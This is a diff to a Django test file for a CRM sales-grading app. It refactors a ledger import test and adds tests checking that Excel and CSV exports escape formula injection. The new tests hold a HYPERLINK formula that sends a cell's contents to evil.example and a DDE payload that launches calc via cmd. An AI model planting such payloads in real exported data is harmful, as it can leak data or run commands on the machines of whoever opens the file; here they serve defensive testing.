@@ -4,13 +4,13 @@ from datetime import date
 from decimal import Decimal
 
 import pytest
-from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
 from crm.roles import Role
 from grading import services
 from grading.models import GradingPolicy, GradingRun, PotentialAssessment, SalesOrder
 from tests.factories import ClientFactory
+from tests.imports import confirm, csv_bytes, last_job, upload
 
 
 @pytest.fixture
@@ -116,19 +116,17 @@ def test_the_run_button_starts_a_run_once(client, manager, graded, django_captur
     assert GradingRun.objects.filter(status="done").count() == 2, "the same day and policy: nothing new"
 
 
-def test_ledger_import_with_preview_all_or_nothing(client, alice):
+def test_ledger_import_with_preview_all_or_nothing(client, alice, settings, tmp_path):
+    settings.MEDIA_ROOT = tmp_path
     ClientFactory(owner=alice, code="L1")
     client.force_login(alice)
-    good = "client_code,ordered_on,amount,quantity,product,margin\nL1,2026-10-01,1200,3,Tea,0.2\n"
-    bad = good + "ZZ9,2026-10-01,50,1,Tea,0.2\n"
-    response = client.post(
-        reverse("clients:import"), {"kind": "orders", "file": SimpleUploadedFile("o.csv", bad.encode())}
-    )
-    assert response.context["clean"] is False and "No client with code ZZ9" in response.context["rows"][1].errors[0]
-    response = client.post(
-        reverse("clients:import"), {"kind": "orders", "file": SimpleUploadedFile("o.csv", good.encode())}
-    )
-    client.post(reverse("clients:import_confirm"), {"token": response.context["token"]})
+    header = "client_code,ordered_on,amount,quantity,product,margin"
+    good = "L1,2026-10-01,1200,3,Tea,0.2"
+    upload(client, csv_bytes(good, "ZZ9,2026-10-01,50,1,Tea,0.2", header=header), kind="orders")
+    job = last_job()
+    assert job.status == "invalid" and "No client with code ZZ9" in job.rows[1]["errors"][0]
+    upload(client, csv_bytes(good, header=header), kind="orders")
+    confirm(client, last_job())
     assert SalesOrder.objects.get().amount == Decimal("1200")
 
 
@@ -215,3 +213,49 @@ def test_someone_elses_ledger_is_404(client, bob, alice):
     theirs = ClientFactory(owner=alice)
     client.force_login(bob)
     assert client.get(reverse("grading:ledger", args=[theirs.pk])).status_code == 404
+
+
+def test_excel_export_writes_a_hostile_client_name_as_text_and_a_loss_as_a_number(client, alice):
+    import io
+
+    import openpyxl
+
+    hostile = ClientFactory(owner=alice, code="EV1", name='=HYPERLINK("http://evil.example/?"&A3,"x")')
+    SalesOrder.objects.create(client=hostile, ordered_on=date(2026, 6, 1), amount=Decimal(500), margin=Decimal("-0.2"))
+    services.grading_run(as_of=date(2026, 11, 28))
+    client.force_login(alice)
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get(reverse("grading:export")).content)).active
+    row = next(sheet.iter_rows(min_row=2))
+    assert (row[1].value, row[1].data_type) == ('=HYPERLINK("http://evil.example/?"&A3,"x")', "s")
+    assert (row[10].value, row[10].data_type) == (-100, "n"), "the profit stays a number"
+
+
+@pytest.mark.parametrize(("fmt", "index"), [("csv", 0), ("xlsx", 1)])
+def test_admin_ledger_export_writes_a_hostile_product_as_text_and_a_negative_margin_as_a_number(
+    client, admin_user, fmt, index
+):
+    import csv
+    import io
+
+    import openpyxl
+
+    SalesOrder.objects.create(
+        client=ClientFactory(code="AD1"),
+        ordered_on=date(2026, 6, 1),
+        amount=Decimal(10),
+        margin=Decimal("-0.25"),
+        product="@SUM(1+1)*cmd|' /C calc'!A0",
+    )
+    client.force_login(admin_user)
+    fields = ["client", "ordered_on", "amount", "quantity", "product", "margin"]
+    response = client.post(
+        reverse("admin:grading_salesorder_export"),
+        {"format": index, "resource": 0, **{f"salesorderresource_{name}": "on" for name in fields}},
+    )
+    if fmt == "csv":
+        row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
+        assert (row[4], row[5]) == ("'@SUM(1+1)*cmd|' /C calc'!A0", "-0.2500")
+    else:
+        row = next(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2))
+        assert (row[4].value, row[4].data_type) == ("@SUM(1+1)*cmd|' /C calc'!A0", "s")
+        assert (row[5].value, row[5].data_type) == (-0.25, "n")
